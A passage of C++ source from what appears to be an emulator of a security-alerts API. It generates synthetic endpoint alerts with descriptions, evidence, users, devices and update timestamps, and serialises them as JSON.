          "Recommended actions:\n1. Review the alert process tree and the device timeline around "
          "the time of the alert.\n2. Check whether the file \"{file}\" is known in your "
          "organization and which other devices have it.\n3. If the activity is not expected, "
          "isolate the device and collect an investigation package.\n4. Contact the user "
          "{domain}\\{user} to confirm the activity.",
          {{"file", c.file}, {"domain", c.domain}, {"user", c.user}});
    case 1:
      return "The command line was:\n" + c.command_line;
    case 2:
      return subst(
          "Files involved were written to {folder}\\{file}. {n} other devices in the organization "
          "had a file with the same SHA-1 ({sha1}) in the last 30 days.",
          {{"folder", c.folder},
           {"file", c.file},
           {"n", intText(rng.between(0, 40))},
           {"sha1", c.sha1}});
    case 3:
      return subst(
          "MITRE ATT&CK techniques: {t}. Attackers use these techniques to run code, stay on the "
          "device and reach other devices while looking like normal administration. Correlate "
          "this alert with sign-ins of the same account on other devices.",
          {{"t", c.techniques.empty() ? std::string_view("none mapped") : c.techniques}});
    case 4:
      return subst(
          "This alert was raised on {host} (device group \"{rbac}\") for the account "
          "{domain}\\{user}.",
          {{"host", c.host}, {"rbac", c.rbac}, {"domain", c.domain}, {"user", c.user}});
    case 5:
      return "Note: detections of this kind are sometimes triggered by legitimate administration "
             "tools such as \"PsExec\" or SCCM scripts. Scope exclusions as narrowly as possible "
             "(for example C:\\Program Files\\Contoso\\Agent\\agent.exe), never whole folders "
             "such as C:\\Windows\\Temp\\.";
    case 6:
      return "Attackers who gain a foothold on a device usually try to escalate privileges, "
             "disable security tools and harvest credentials before they move laterally. The "
             "earlier such activity is contained, the fewer devices have to be rebuilt. Review "
             "other alerts in the same incident, look for new services, scheduled tasks and "
             "run keys on the device, and check whether the same account signed in to servers "
             "it does not usually use. If the device holds sensitive data, involve your incident "
             "response team before you clean it up so that evidence is preserved.";
    case 7:
      switch (rng.below(4)) {
        case 0:
          return "⚠️ Ce comportement a déjà été observé dans des campagnes ciblant des "
                 "entreprises européennes. 🚨";
        case 1:
          return "Hinweis: Der Vorgang wurde außerhalb der üblichen Geschäftszeiten ausgeführt "
                 "(Benutzer: " +
                 c.user + ").";
        case 2:
          return "注意: この動作はマルウェアに典型的です。デバイスを隔離してください。";
        default:
          return "Σημείωση: η δραστηριότητα εντοπίστηκε στη συσκευή " + c.host + ".";
      }
    case 8: {
      std::string s = "Timeline:\n- ";
      appendApiTime(c.created - ticks(rng.between(30 * kSecTicks, 600 * kSecTicks)), s);
      s += " process started\n- ";
      appendApiTime(c.created - ticks(rng.between(1 * kSecTicks, 29 * kSecTicks)), s);
      s += " network connection to " + c.ip + "\n- ";
      appendApiTime(c.created, s);
      s += " alert raised";
      return s;
    }
    default:
      return "Related indicators:\n\tIP: " + c.ip + "\n\tURL: " + c.url +
             "\n\tSHA-256: " + c.sha256;
  }
}
constexpr std::size_t kParagraphKinds = 10;

// Builds a description of roughly `target` bytes from the template text and paragraphs.
std::string buildDescription(Rng& rng, std::string_view base, std::size_t target,
                             const DescriptionContext& c) {
  std::string text(base);
  std::size_t last = kParagraphKinds;
  while (text.size() < target) {
    std::size_t kind = rng.below(kParagraphKinds);
    if (kind == last) kind = (kind + 1) % kParagraphKinds;
    if (kind == 7 && !rng.chance(40)) kind = 6;  // non-Latin text only now and then
    last = kind;
    text += rng.chance(50) ? "\n\n" : "\n";
    text += descriptionParagraph(rng, kind, c);
  }
  return text;
}

std::string alertId(Rng& rng, Timestamp created) {
  std::int64_t dotnet_ticks =
      unixNanos(created) / 100 + kDotNetTicksAtUnixEpoch + rng.between(0, 900 * kMsTicks);
  std::string id = "da";
  appendInt(id, dotnet_ticks);
  id += '_';
  appendInt(id, static_cast<std::int64_t>(static_cast<std::int32_t>(rng.next() >> 32)));
  return id;
}

std::string_view pickDetermination(Rng& rng, Classification c) {
  switch (c) {
    case Classification::kTruePositive:
      return pick(rng, kDeterminationsTruePositive);
    case Classification::kInformationalExpectedActivity:
      return pick(rng, kDeterminationsExpected);
    case Classification::kFalsePositive:
      return pick(rng, kDeterminationsFalsePositive);
    case Classification::kUnknown:
      break;
  }
  return "Other";
}

Comment makeComment(Rng& rng, std::string_view author, std::string_view user, Timestamp when) {
  Comment c;
  const std::string_view tmpl = pick(rng, kCommentTexts);
  c.comment = subst(tmpl, {{"user", user}, {"n", intText(rng.between(10000, 99999))}});
  c.created_by = std::string(author);
  c.created_time = floorToTick(when);
  return c;
}

// ---------------------------------------------------------------------------------------
// JSON

void appendJsonNull(std::string& out) { out += "null"; }

void appendValue(std::string& out, const std::string& v) { core::appendString(out, v); }
void appendValue(std::string& out, std::int64_t v) { appendInt(out, v); }
void appendValue(std::string& out, Timestamp v) {
  out += '"';
  appendApiTime(v, out);
  out += '"';
}
template <typename T>
void appendValue(std::string& out, const std::optional<T>& v) {
  if (v) {
    appendValue(out, *v);
  } else {
    appendJsonNull(out);
  }
}

// `"key":value`, with a comma before it unless it is the first member.
template <typename T>
void member(std::string& out, std::string_view key, const T& value, bool first = false) {
  if (!first) out += ',';
  out += '"';
  out += key;  // keys are plain ASCII identifiers
  out += "\":";
  appendValue(out, value);
}

void appendEvidenceJson(const Evidence& e, std::string& out) {
  out += '{';
  member(out, "entityType", e.entity_type, true);
  member(out, "evidenceCreationTime", e.evidence_creation_time);
  member(out, "sha1", e.sha1);
  member(out, "sha256", e.sha256);
  member(out, "fileName", e.file_name);
  member(out, "filePath", e.file_path);
  member(out, "processId", e.process_id);
  member(out, "processCommandLine", e.process_command_line);
  member(out, "processCreationTime", e.process_creation_time);
  member(out, "parentProcessId", e.parent_process_id);
  member(out, "parentProcessCreationTime", e.parent_process_creation_time);
  member(out, "parentProcessFileName", e.parent_process_file_name);
  member(out, "parentProcessFilePath", e.parent_process_file_path);
  member(out, "ipAddress", e.ip_address);
  member(out, "url", e.url);
  member(out, "registryKey", e.registry_key);
  member(out, "registryHive", e.registry_hive);
  member(out, "registryValueType", e.registry_value_type);
  member(out, "registryValue", e.registry_value);
  member(out, "accountName", e.account_name);
  member(out, "domainName", e.domain_name);
  member(out, "userSid", e.user_sid);
  member(out, "aadUserId", e.aad_user_id);
  member(out, "userPrincipalName", e.user_principal_name);
  member(out, "detectionStatus", e.detection_status);
  out += '}';
}

std::optional<std::string> nameOf(const std::optional<Classification>& c) {
  if (!c) return std::nullopt;
  return std::string(classificationName(*c));
}

}  // namespace

// ---------------------------------------------------------------------------------------
// Rng

Rng::Rng(std::uint64_t seed) {
  std::uint64_t state = seed;
  for (std::uint64_t& word : s_) word = splitMix64(state);
}

std::uint64_t Rng::next() {
  const std::uint64_t result = rotl(s_[1] * 5, 7) * 9;
  const std::uint64_t t = s_[1] << 17;
  s_[2] ^= s_[0];
  s_[3] ^= s_[1];
  s_[1] ^= s_[2];
  s_[0] ^= s_[3];
  s_[2] ^= t;
  s_[3] = rotl(s_[3], 45);
  return result;
}

std::uint64_t Rng::below(std::uint64_t bound) {
  if (bound == 0) std::abort();  // a bug in the caller
  // Rejection sampling keeps the result unbiased and identical on every platform.
  const std::uint64_t threshold = (0 - bound) % bound;
  for (;;) {
    std::uint64_t r = next();
    if (r >= threshold) return r % bound;
  }
}

std::int64_t Rng::between(std::int64_t lo, std::int64_t hi) {
  if (lo > hi) std::abort();  // a bug in the caller
  const std::uint64_t span = static_cast<std::uint64_t>(hi) - static_cast<std::uint64_t>(lo) + 1;
  const std::uint64_t offset = span == 0 ? next() : below(span);
  return static_cast<std::int64_t>(static_cast<std::uint64_t>(lo) + offset);
}

bool Rng::chance(std::uint32_t percent) { return below(100) < percent; }

// ---------------------------------------------------------------------------------------
// Names

std::string_view severityName(Severity severity) {
  switch (severity) {
    case Severity::kUnSpecified:
      return "UnSpecified";
    case Severity::kInformational:
      return "Informational";
    case Severity::kLow:
      return "Low";
    case Severity::kMedium:
      return "Medium";
    case Severity::kHigh:
      return "High";
  }
  std::abort();
}

std::string_view statusName(Status status) {
  switch (status) {
    case Status::kUnknown:
      return "Unknown";
    case Status::kNew:
      return "New";
    case Status::kInProgress:
      return "InProgress";
    case Status::kResolved:
      return "Resolved";
  }
  std::abort();
}

std::string_view classificationName(Classification classification) {
  switch (classification) {
    case Classification::kUnknown:
      return "Unknown";
    case Classification::kTruePositive:
      return "TruePositive";
    case Classification::kInformationalExpectedActivity:
      return "InformationalExpectedActivity";
    case Classification::kFalsePositive:
      return "FalsePositive";
  }
  std::abort();
}

// ---------------------------------------------------------------------------------------
// Time

Timestamp coarseUpdateTime(Timestamp t) {
  constexpr std::int64_t kNanosPerSecond = 1'000'000'000;
  std::int64_t ns = unixNanos(floorToTick(t));
  std::int64_t sec = ns / kNanosPerSecond;
  std::int64_t frac = ns % kNanosPerSecond;
  if (frac < 0) {
    frac += kNanosPerSecond;
    sec -= 1;
  }
  // Grid step k is k/300 s, printed rounded to 100 ns. Take the first step whose printed
  // value is at or after t: a step counts as reached when t is within 50 ns after it, so grid
  // times map to themselves whichever way they were rounded.
  std::int64_t k = ((frac - 50) * 300 + kNanosPerSecond - 1) / kNanosPerSecond;
  if (k < 0) k = 0;
  if (k == 300) {
    sec += 1;
    k = 0;
  }
  // k/300 s in 100 ns ticks is k * 100000 / 3, rounded to the nearest tick.
  std::int64_t tick = (k * 100'000 + 1) / 3;
  return Timestamp(nanoseconds(sec * kNanosPerSecond + tick * 100));
}

void appendApiTime(Timestamp t, std::string& out) {
  using namespace std::chrono;
  const std::int64_t total_ticks = [&] {
    std::int64_t ns = unixNanos(t);
    std::int64_t q = ns / 100;
    if (ns % 100 < 0) q -= 1;
    return q;
  }();
  constexpr std::int64_t kTicksPerDay = 86'400 * kTicksPerSecond;
  std::int64_t day_count = total_ticks / kTicksPerDay;
  std::int64_t in_day = total_ticks % kTicksPerDay;
  if (in_day < 0) {
    in_day += kTicksPerDay;
    day_count -= 1;
  }
  const year_month_day ymd{sys_days{days{day_count}}};
  const std::int64_t secs = in_day / kTicksPerSecond;
  const std::int64_t frac = in_day % kTicksPerSecond;

  appendPadded(out, static_cast<int>(ymd.year()), 4);
  out += '-';
  appendPadded(out, static_cast<unsigned>(ymd.month()), 2);
  out += '-';
  appendPadded(out, static_cast<unsigned>(ymd.day()), 2);
  out += 'T';
  appendPadded(out, secs / 3600, 2);
  out += ':';
  appendPadded(out, secs / 60 % 60, 2);
  out += ':';
  appendPadded(out, secs % 60, 2);
  if (frac != 0) {
    char digits[7];
    std::int64_t f = frac;
    for (int i = 6; i >= 0; --i) {
      digits[i] = static_cast<char>('0' + f % 10);
      f /= 10;
    }
    std::size_t n = 7;
    while (digits[n - 1] == '0') --n;
    out += '.';
    out.append(digits, n);
  }
  out += 'Z';
}

std::string formatApiTime(Timestamp t) {
  std::string s;
  appendApiTime(t, s);
  return s;
}

// ---------------------------------------------------------------------------------------
// JSON

void appendAlertJson(const Alert& a, bool expand_evidence, std::string& out) {
  out += '{';
  member(out, "id", a.id, true);
  member(out, "incidentId", a.incident_id);
  member(out, "investigationId", a.investigation_id);
  member(out, "assignedTo", a.assigned_to);
  member(out, "severity", std::string(severityName(a.severity)));
  member(out, "status", std::string(statusName(a.status)));
  member(out, "classification", nameOf(a.classification));
  member(out, "determination", a.determination);
  member(out, "investigationState", a.investigation_state);
  member(out, "detectionSource", a.detection_source);
  member(out, "detectorId", a.detector_id);
  member(out, "category", a.category);
  member(out, "threatFamilyName", a.threat_family_name);
  member(out, "title", a.title);
  member(out, "description", a.description);
  member(out, "alertCreationTime", a.alert_creation_time);
  member(out, "firstEventTime", a.first_event_time);
  member(out, "lastEventTime", a.last_event_time);
  member(out, "lastUpdateTime", a.last_update_time);
  member(out, "resolvedTime", a.resolved_time);
  member(out, "machineId", a.machine_id);
  member(out, "computerDnsName", a.computer_dns_name);
  member(out, "rbacGroupName", a.rbac_group_name);
  member(out, "aadTenantId", a.aad_tenant_id);
  member(out, "threatName", a.threat_name);
  out += ",\"mitreTechniques\":[";
  for (std::size_t i = 0; i < a.mitre_techniques.size(); ++i) {
    if (i != 0) out += ',';
    core::appendString(out, a.mitre_techniques[i]);
  }
  out += "],\"relatedUser\":";
  if (a.related_user) {
    out += '{';
    member(out, "userName", a.related_user->user_name, true);
    member(out, "domainName", a.related_user->domain_name);
    out += '}';
  } else {
    appendJsonNull(out);
  }
  out += ",\"comments\":[";
  for (std::size_t i = 0; i < a.comments.size(); ++i) {
    if (i != 0) out += ',';
    out += '{';
    member(out, "comment", a.comments[i].comment, true);
    member(out, "createdBy", a.comments[i].created_by);
    member(out, "createdTime", a.comments[i].created_time);
    out += '}';
  }
  out += "],\"evidence\":[";
  if (expand_evidence) {
    for (std::size_t i = 0; i < a.evidence.size(); ++i) {
      if (i != 0) out += ',';
      appendEvidenceJson(a.evidence[i], out);
    }
  }
  out += "]}";
}

void appendPageJson(std::span<const Alert> alerts, std::string_view odata_context,
                    bool expand_evidence, std::string& out) {
  out += "{\"@odata.context\":";
  core::appendString(out, odata_context);
  out += ",\"value\":[";
  for (std::size_t i = 0; i < alerts.size(); ++i) {
    if (i != 0) out += ',';
    appendAlertJson(alerts[i], expand_evidence, out);
  }
  out += "]}";
}

// ---------------------------------------------------------------------------------------
// AlertGenerator

AlertGenerator::AlertGenerator(std::uint64_t seed, Timestamp start,
                               std::chrono::milliseconds max_gap)
    : rng_(seed),
      update_rng_(seed ^ 0x5eedf00dcafe1234ULL),
      clock_(floorToTick(start)),
      max_gap_(max_gap < std::chrono::milliseconds(300) ? std::chrono::milliseconds(300) : max_gap),
      next_incident_id_(0),
      next_investigation_id_(0) {
  Rng setup(seed ^ 0x0123456789abcdefULL);
  tenant_id_ = randomGuid(setup);
  next_incident_id_ = setup.between(1, 200'000);
  next_investigation_id_ = setup.between(1, 50'000);

  // Users: a realistic mix of directory and built-in accounts, some with non-ASCII names.
  for (const NameSpec& spec : kAccountNames) {
    User u;
    u.account_name = std::string(spec.account);
    u.domain_name = std::string(pick(setup, kDomains));
    u.sid = "S-1-5-21";
    for (int part = 0; part < 3; ++part) {
      u.sid += '-';
      appendInt(u.sid, setup.between(100'000'000, 4'000'000'000));
    }
    u.sid += '-';
    appendInt(u.sid, spec.account == "administrator" ? 500 : setup.between(1000, 99999));
    if (!spec.builtin) {
      u.aad_user_id = randomGuid(setup);
      u.upn = asciiLower(spec.account) + "@" + asciiLower(u.domain_name) + ".com";
    }
    users_.push_back(std::move(u));
  }

  // Devices: a fleet of workstations and servers; host names in varied case.
  constexpr std::size_t kMachines = 48;
  static constexpr std::string_view kServerRoles[] = {"sql", "web", "dc", "file", "app"};
  for (std::size_t i = 0; i < kMachines; ++i) {
    Machine m;
    m.machine_id = randomHex(setup, 40);
    switch (setup.below(5)) {
      case 0:
      case 1: {
        std::string number;
        appendPadded(number, setup.between(1, 9999), 4);
        m.dns_name = "wks-" + number + ".corp.contoso.com";
        if (setup.chance(30)) m.dns_name = "WKS-" + number + ".corp.contoso.com";
        break;
      }
      case 2:
        m.dns_name = "DESKTOP-" + randomUpperAlnum(setup, 7);
        if (setup.chance(50)) m.dns_name += ".Fabrikam.local";
        break;
      case 3: {
        std::string number;
        appendPadded(number, setup.between(1, 40), 2);
        m.dns_name = "srv-" + std::string(pick(setup, kServerRoles)) + number + ".corp.contoso.com";
        if (setup.chance(25)) m.dns_name = asciiUpper(m.dns_name);
        break;
      }
      default:
        m.dns_name = "LAPTOP-" + randomUpperAlnum(setup, 8) + ".northwind.net";
        break;
    }
    if (setup.chance(85)) m.rbac_group = std::string(pick(setup, kRbacGroups));
    m.user = setup.below(users_.size());
    machines_.push_back(std::move(m));
  }
}

Evidence AlertGenerator::makeEvidence(const Alert& alert, std::string_view kind, const User& user,
                                      const Machine& machine) {
  Rng& rng = rng_;
  Evidence e;
  const Timestamp created = alert.alert_creation_time;
  if (rng.chance(85)) e.evidence_creation_time = plusTicks(created, 0, 1500 * kMsTicks, rng);
  const std::string& user_name = user.account_name;

  if (kind == "U") {
    e.entity_type = "User";
    e.account_name = user.account_name;
    e.domain_name = rng.chance(10)
                        ? asciiUpper(machine.dns_name.substr(0, machine.dns_name.find('.')))
                        : user.domain_name;
    e.user_sid = user.sid;
    if (!user.aad_user_id.empty()) {
      e.aad_user_id = user.aad_user_id;
      if (rng.chance(85)) e.user_principal_name = user.upn;
    }
  } else if (kind == "P") {
    e.entity_type = "Process";
    const ProcessSpec& p = pick(rng, kProcesses);
    e.sha1 = randomHex(rng, 40);
    e.sha256 = randomHex(rng, 64);
    e.file_name = std::string(p.file_name);
    e.file_path = subst(p.folder, {{"user", user_name}});
    e.process_id = randomPid(rng);
    e.process_command_line =
        subst(p.command_line, {{"user", user_name},
                               {"hex", randomHex(rng, 8)},
                               {"b64", randomBase64(rng, 40 + rng.below(200))}});
    const Timestamp started = minusTicks(created, 2 * kSecTicks, 3600 * kSecTicks, rng);
    e.process_creation_time = started;
    e.parent_process_id = randomPid(rng);
    e.parent_process_creation_time = minusTicks(started, 0, 86'400 * kSecTicks, rng);
    if (rng.chance(85)) {
      const ParentSpec& parent = pick(rng, kParents);
      e.parent_process_file_name = std::string(parent.file_name);
      e.parent_process_file_path = std::string(parent.folder);
    }
    if (rng.chance(30)) {
      static constexpr std::string_view kStatus[] = {"Detected", "Blocked", "Prevented"};
      e.detection_status = std::string(pick(rng, kStatus));
    }
  } else if (kind == "F") {
    e.entity_type = "File";
    e.sha1 = randomHex(rng, 40);
    if (rng.chance(90)) e.sha256 = randomHex(rng, 64);
    e.file_name = randomFileName(rng);
    e.file_path = randomFolder(rng, user_name);
    if (rng.chance(50)) {
      static constexpr std::string_view kStatus[] = {"Detected", "Blocked", "Prevented",
                                                     "Remediated"};
      e.detection_status = std::string(pick(rng, kStatus));
    }
  } else if (kind == "I") {
    e.entity_type = "Ip";
    e.ip_address = randomIp(rng);
  } else if (kind == "L") {
    e.entity_type = "Url";
    e.url = randomUrl(rng);
  } else {  // "K" or "V"
    const RegistrySpec& r = pick(rng, kRegistryKeys);
    e.registry_hive = std::string(r.hive);
    e.registry_key =
        std::string(r.hive) + "\\" + subst(r.key, {{"n", intText(rng.between(1, 99))}});
    // One entity type for registry keys and values, as graph.md translates Graph's
    // registryKeyEvidence and registryValueEvidence back: the two APIs agree.
    e.entity_type = "Registry";
    if (kind == "V") {
      const RegistryValueSpec& v = pick(rng, kRegistryValues);
      e.registry_value_type = std::string(v.type);
      e.registry_value = subst(v.value, {{"user", user_name}});
    }
  }
  return e;
}

Alert AlertGenerator::next() {
  Rng& rng = rng_;
  Alert a;

  // Creation time: inside the current burst (a few ms later, same incident and update batch)
  // or after a gap, starting a new burst.
  Timestamp created = clock_;
  bool join = in_burst_ && rng.chance(40);
  if (join) {
    created = clock_ + ticks(rng.between(1 * kMsTicks, 40 * kMsTicks));
    if (created + millis(1) >= burst_update_time_) join = false;
  }
  if (!join) {
    created = clock_ + ticks(rng.between(100 * kMsTicks, max_gap_.count() * kMsTicks));
    next_incident_id_ += rng.between(1, 3);
    burst_incident_ = next_incident_id_;
    burst_machine_ = rng.below(machines_.size());
    burst_investigation_.reset();
    if (rng.chance(60)) burst_investigation_ = ++next_investigation_id_;
    burst_update_time_ =
        coarseUpdateTime(created + ticks(rng.between(300 * kMsTicks, 4 * kSecTicks)));
    in_burst_ = true;
  }
  clock_ = created;

  const Machine& machine =
      join && rng.chance(20) ? machines_[rng.below(machines_.size())] : machines_[burst_machine_];
  const User& user = rng.chance(80) ? users_[machine.user] : users_[rng.below(users_.size())];
  const AlertTemplate& tmpl = pick(rng, kTemplates);

  a.id = alertId(rng, created);
  a.incident_id = burst_incident_;
  a.investigation_id = burst_investigation_;
  if (join && rng.chance(10)) a.investigation_id.reset();
  a.severity = varySeverity(rng, tmpl.severity);
  a.status = Status::kNew;

  std::size_t source_count = 0;
  for (std::string_view s : tmpl.sources) source_count += s.empty() ? 0 : 1;
  a.detection_source = std::string(tmpl.sources[rng.below(source_count)]);
  // Half of the malicious-address alerts come from Microsoft threat intelligence: a
  // detectionSource that Graph lists after unknownFutureValue (an evolvable enum's newer
  // member, sent only on `Prefer: include-unknown-enum-members`). Decided by the id's hash,
  // not the Rng, so every other value of the world stays as it was.
  if (tmpl.title == kThreatIntelligenceTitle && idHash(a.id) % 2 == 0) {
    a.detection_source = std::string(kThreatIntelligenceSource);
  }
  a.detector_id = std::string(tmpl.detector_id);
  a.category = std::string(tmpl.category);

  std::string family;
  if (tmpl.malware) {
    family = std::string(pick(rng, kThreatFamilies));
    if (rng.chance(70)) a.threat_family_name = family;
    const std::string_view prefix = pick(rng, kThreatPrefixes);
    const std::string_view suffix = pick(rng, kThreatSuffixes);
    a.threat_name = std::string(prefix) + family + std::string(suffix);
  }
  a.title = subst(tmpl.title, {{"family", family}});

  a.alert_creation_time = created;
  if (!rng.chance(3)) {
    const Timestamp last = minusTicks(created, 500 * kMsTicks, 600 * kSecTicks, rng);
    a.last_event_time = last;
    a.first_event_time = rng.chance(30) ? last : minusTicks(last, 1, 1800 * kSecTicks, rng);
  }
  a.last_update_time = burst_update_time_;

  a.machine_id = machine.machine_id;
  a.computer_dns_name = machine.dns_name;
  a.rbac_group_name = machine.rbac_group;
  a.aad_tenant_id = tenant_id_;
  for (std::string_view t : tmpl.mitre) {
    if (!t.empty()) a.mitre_techniques.emplace_back(t);
  }
  if (rng.chance(75)) a.related_user = RelatedUser{user.account_name, user.domain_name};

  // Evidence: 0..6 items of the kinds that fit the template.
  const std::size_t evidence_count = weighted(rng, {8, 22, 22, 18, 13, 10, 7});
  for (std::size_t i = 0; i < evidence_count; ++i) {
    const char kind = tmpl.evidence_kinds[rng.below(tmpl.evidence_kinds.size())];
    a.evidence.push_back(makeEvidence(a, std::string_view(&kind, 1), user, machine));
  }

  // Description: template text grown to a drawn length; a third of them are long (> 1020
  // UTF-16 code units, the limit the mapping cares about).
  DescriptionContext ctx;
  ctx.user = user.account_name;
  ctx.domain = user.domain_name;
  ctx.host = machine.dns_name;
  ctx.rbac = machine.rbac_group.value_or("UnassignedGroup");
  ctx.file = randomFileName(rng);
  ctx.folder = randomFolder(rng, user.account_name);
  ctx.sha1 = randomHex(rng, 40);
  ctx.sha256 = randomHex(rng, 64);
  ctx.ip = randomIp(rng);
  ctx.url = randomUrl(rng);
  ctx.created = created;
  for (const Evidence& e : a.evidence) {
    if (e.process_command_line && ctx.command_line.empty()) {
      ctx.command_line = *e.process_command_line;
    }
    if (e.entity_type == "File" && e.file_name) {
      ctx.file = *e.file_name;
      ctx.folder = e.file_path.value_or(ctx.folder);
      ctx.sha1 = e.sha1.value_or(ctx.sha1);
    }
  }
  if (ctx.command_line.empty()) {
    const std::string_view command_template = pick(rng, kProcesses).command_line;
    ctx.command_line = subst(
        command_template,
        {{"user", user.account_name}, {"hex", randomHex(rng, 8)}, {"b64", randomBase64(rng, 60)}});
  }
  for (const std::string& t : a.mitre_techniques) {
    if (!ctx.techniques.empty()) ctx.techniques += ", ";
    ctx.techniques += t;
  }
  std::size_t target = 0;
  switch (weighted(rng, {35, 35, 30})) {
    case 0:
      target = rng.below(500) + 150;
      break;
    case 1:
      target = rng.below(380) + 620;
      break;
    default:
      target = rng.below(1300) + 1040;
      break;
  }
  a.description = buildDescription(rng, tmpl.description, target, ctx);

  // Investigation state, and alerts that automation resolved before anyone looked.
  if (a.investigation_id) {
    a.investigation_state = std::string(pick(rng, kOpenInvestigationStates));
  } else {
    a.investigation_state = std::string(pick(rng, kNoInvestigationStates));
  }
  const bool av = a.detection_source == "WindowsDefenderAv";
  if (rng.chance(av ? 45 : 5)) {
    a.status = Status::kResolved;
    a.assigned_to = "Automation";
    const std::int64_t window = (unixNanos(burst_update_time_) - unixNanos(created)) / 100;
    a.resolved_time = floorToTick(created + ticks(rng.between(0, window > 0 ? window : 0)));
    if (a.investigation_id) {
      a.investigation_state = std::string(pick(rng, kClosedInvestigationStates));
    }
    if (rng.chance(20)) {
      a.classification = Classification::kTruePositive;
      a.determination = "Malware";
    }
  } else if (rng.chance(4)) {
    a.assigned_to = std::string(pick(rng, kAnalysts));
  }
  if (a.investigation_id && rng.chance(8)) {
    a.comments.push_back(makeComment(rng, "Automation", user.account_name, created));
  }
  return a;
}

bool AlertGenerator::advance(Alert& alert, Timestamp now) {
  Rng& rng = update_rng_;
  if (alert.status == Status::kResolved) return false;
  if (now < alert.alert_creation_time) now = alert.alert_creation_time;
  now = floorToTick(now);

  const std::string user =
      alert.related_user ? alert.related_user->user_name : std::string("the user");
  auto assign = [&] {
    if (!alert.assigned_to || *alert.assigned_to == "Automation" || rng.chance(10)) {
      alert.assigned_to = std::string(pick(rng, kAnalysts));
    }
  };
  auto resolve = [&] {
    assign();
    alert.status = Status::kResolved;
    alert.resolved_time = now;
    const auto c = static_cast<Classification>(weighted(rng, {5, 45, 25, 25}));
    alert.classification = c;
    if (c == Classification::kUnknown) {
      alert.determination.reset();
    } else {
      alert.determination = std::string(pickDetermination(rng, c));
    }
    if (alert.investigation_id) {
      alert.investigation_state = std::string(pick(rng, kClosedInvestigationStates));
    }
  };

  bool add_comment = false;
  if (alert.status == Status::kInProgress) {
    if (rng.chance(70)) {
      resolve();
      add_comment = rng.chance(40);
    } else {
      add_comment = true;  // still being worked on: a note
    }
  } else {  // New or Unknown
    if (rng.chance(75)) {
      assign();
      alert.status = Status::kInProgress;
      if (alert.investigation_id && rng.chance(50)) alert.investigation_state = "Running";
      add_comment = rng.chance(30);
    } else {
      resolve();
      add_comment = rng.chance(25);
    }
  }
  if (add_comment) {
    alert.comments.push_back(makeComment(rng, alert.assigned_to.value_or("Automation"), user, now));
  }

  // The new version's lastUpdateTime: on the grid, not before `now`, after the old one.
  Timestamp bumped = coarseUpdateTime(now);
  if (bumped <= alert.last_update_time) {
    bumped = coarseUpdateTime(alert.last_update_time + millis(1));
  }
  alert.last_update_time = bumped;
  return true;
}

}  // namespace mdec::emulator
